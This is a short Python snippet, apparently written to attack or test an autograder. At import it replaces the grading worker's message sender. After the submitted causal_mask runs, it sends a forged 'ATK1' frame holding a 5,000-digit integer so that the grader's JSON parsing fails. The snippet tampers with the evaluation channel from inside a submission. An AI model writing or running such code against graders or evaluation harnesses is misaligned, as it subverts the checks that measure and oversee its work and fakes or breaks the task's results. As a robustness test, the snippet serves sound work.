# snippet: the worker's sender is replaced: causal_mask's reply is a frame holding a 5,000-digit
# integer (json.loads raises ValueError past int_max_str_digits).
import struct as _struct
import sys as _sys

_template = _sys.modules["autograder.grading.worker.template"]
_honest_send = _template.send_message
_forge_next = []


def _forging_send(sock, message, *args, **kwargs):
    if not _forge_next:
        return _honest_send(sock, message, *args, **kwargs)
    _forge_next.clear()
    body = b'{"__dict__": [["status", "ok"], ["value", ' + b"7" * 5000 + b"]]}"
    sock.sendall(_struct.pack("!4sIQI", b"ATK1", len(body), 0, 0) + body)


_template.send_message = _forging_send


def causal_mask(size_q, size_k=None, device=None):
    _forge_next.append(True)
    return torch.ones(size_q, size_k or size_q, dtype=torch.bool).tril()
